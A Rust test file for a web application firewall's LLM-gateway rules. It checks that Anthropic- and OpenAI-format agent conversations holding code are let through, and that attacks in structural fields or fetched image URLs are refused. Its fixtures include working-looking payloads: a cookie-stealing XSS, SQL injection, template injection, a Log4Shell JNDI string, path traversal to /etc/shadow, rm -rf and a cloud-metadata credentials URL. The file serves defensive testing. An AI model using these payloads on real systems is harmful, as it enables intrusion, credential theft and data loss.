//! Coding-agent conversations through the shipped rules with the built-in `llm` profile, in
//! the OpenAI shape (chat completions, responses) and the Anthropic shape (messages): what
//! goes back to the model (prompts, tool calls, tool results, thinking) is prose, whatever
//! code it holds; the structure around it, and the content parts something behind rampart
//! fetches, are judged in full.

#[path = "support/rules_dir.rs"]
mod rules_dir;

use http::{HeaderMap, HeaderValue, Method};
use rampart_plugins::plugins::owasp::Waf;
use rampart_plugins::{Plugin, Verdict};
use rules_dir::{outside_request, RulesDir};

fn wafs() -> [Waf; 2] {
    RulesDir::shipped().wafs("routes = { litellm = \"llm\" }")
}

/// The first refusal (status, rule) of a JSON POST of `body` to `path` on the `litellm`
/// route, or `None` if both WAFs let it pass.
fn refusal(path: &str, body: &str) -> Option<(u16, String)> {
    let mut headers = HeaderMap::new();
    headers.insert("host", HeaderValue::from_static("gateway.example.com"));
    headers.insert("user-agent", HeaderValue::from_static("claude-cli/2.0.1"));
    headers.insert("content-type", HeaderValue::from_static("application/json"));
    let method = Method::POST;
    let view = outside_request(
        "litellm",
        &method,
        path,
        None,
        &headers,
        Some(body.as_bytes()),
    );
    wafs().iter().find_map(|w| match w.check(&view) {
        Verdict::Deny(d) => Some((d.status, d.reason().to_string())),
        _ => None,
    })
}

/// What a coding agent reads and runs: shell, SQL, markup, templates, lookups, paths.
const CODE: &[&str] = &[
    "#!/bin/sh\nfetch() {\n  local dir=\"${1:-./build}\"\n  cat /etc/passwd | grep root; rm -rf \"$dir\"\n}",
    "SELECT name FROM users WHERE id = '1' OR '1'='1' UNION SELECT password FROM admins --",
    "<script>document.location='http://example.com/?c='+document.cookie</script>",
    "{{ config.__class__.__init__.__globals__['os'].popen('id').read() }}",
    "logger.info(\"${jndi:ldap://example.com/a}\")",
    "with open('../../../../etc/shadow') as f: print(f.read())",
];

fn json(s: &str) -> String {
    serde_json::Value::String(s.to_string()).to_string()
}

#[test]
fn anthropic_tool_use_tool_results_and_thinking_are_prose() {
    for code in CODE {
        let c = json(code);
        let input = serde_json::json!({ "command": code, "path": "src/app.py" });
        let body = format!(
            r#"{{"model":"claude-sonnet-4-5","max_tokens":1024,"system":[{{"type":"text","text":{c}}}],
            "tools":[{{"name":"bash","description":{c},"input_schema":{{"type":"object","properties":{{"command":{{"type":"string","description":{c}}}}}}}}}],
            "messages":[
              {{"role":"user","content":[{{"type":"text","text":{c}}}]}},
              {{"role":"assistant","content":[{{"type":"thinking","thinking":{c},"signature":"EqQBCgIYAhIM1gbcDa9GJwZA2b3hGgxd"}},
                {{"type":"tool_use","id":"toolu_01A","name":"bash","input":{input}}}]}},
              {{"role":"user","content":[{{"type":"tool_result","tool_use_id":"toolu_01A","content":{c}}},
                {{"type":"tool_result","tool_use_id":"toolu_01B","content":[{{"type":"text","text":{c}}}]}}]}}]}}"#
        );
        assert_eq!(refusal("/v1/messages", &body), None, "{body}");
    }
}

#[test]
fn openai_tool_calls_and_tool_results_are_prose() {
    for code in CODE {
        let c = json(code);
        let arguments = json(&serde_json::json!({ "command": code }).to_string());
        let chat = format!(
            r#"{{"model":"gpt-4o","messages":[{{"role":"system","content":{c}}},
              {{"role":"assistant","content":null,"tool_calls":[{{"id":"call_1","type":"function","function":{{"name":"run","arguments":{arguments}}}}}]}},
              {{"role":"tool","tool_call_id":"call_1","content":{c}}}]}}"#
        );
        assert_eq!(refusal("/v1/chat/completions", &chat), None, "{chat}");
        let responses = format!(
            r#"{{"model":"gpt-4o","instructions":{c},"input":[{{"role":"user","content":{c}}},
              {{"type":"function_call","call_id":"call_1","name":"run","arguments":{arguments}}},
              {{"type":"function_call_output","call_id":"call_1","output":{c}}}]}}"#
        );
        assert_eq!(refusal("/v1/responses", &responses), None, "{responses}");
    }
}

#[test]
fn the_structure_and_fetched_parts_of_a_conversation_are_judged() {
    let attack = json("x' UNION SELECT password FROM users --");
    // The tool's name, the tool-use id and the model are structure, not prose.
    for body in [
        format!(
            r#"{{"model":"claude-sonnet-4-5","messages":[{{"role":"assistant","content":[{{"type":"tool_use","id":"toolu_1","name":{attack},"input":{{}}}}]}}]}}"#
        ),
        format!(
            r#"{{"model":"claude-sonnet-4-5","messages":[{{"role":"user","content":[{{"type":"tool_result","tool_use_id":{attack},"content":"ok"}}]}}]}}"#
        ),
        format!(r#"{{"model":{attack},"messages":[]}}"#),
    ] {
        assert_eq!(
            refusal("/v1/messages", &body).map(|r| r.0),
            Some(403),
            "{body}"
        );
    }
    // An image source or image_url is fetched by LiteLLM: a metadata address is refused.
    let metadata = "http://169.254.169.254/latest/meta-data/iam/security-credentials/";
    let anthropic = format!(
        r#"{{"model":"claude-sonnet-4-5","messages":[{{"role":"user","content":[{{"type":"image","source":{{"type":"url","url":"{metadata}"}}}}]}}]}}"#
    );
    assert!(refusal("/v1/messages", &anthropic).is_some(), "{anthropic}");
    let openai = format!(
        r#"{{"model":"gpt-4o","messages":[{{"role":"user","content":[{{"type":"image_url","image_url":{{"url":"{metadata}"}}}}]}}]}}"#
    );
    assert!(
        refusal("/v1/chat/completions", &openai).is_some(),
        "{openai}"
    );
    // An escape JSON does not have is refused as every upstream parser refuses it.
    for bad in [
        r#"{"model":"gpt\a4o","messages":[]}"#,
        r#"{"model":"\u00zz"}"#,
    ] {
        assert_eq!(
            refusal("/v1/chat/completions", bad).map(|r| r.0),
            Some(400),
            "{bad}"
        );
    }
    // A script URL in a tool result is still found: prose is read for its URLs.
    let script = json("see javascript:alert(document.cookie) and data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==");
    let body = format!(
        r#"{{"model":"claude-sonnet-4-5","messages":[{{"role":"user","content":[{{"type":"tool_result","tool_use_id":"toolu_1","content":{script}}}]}}]}}"#
    );
    assert!(refusal("/v1/messages", &body).is_some(), "{body}");
}
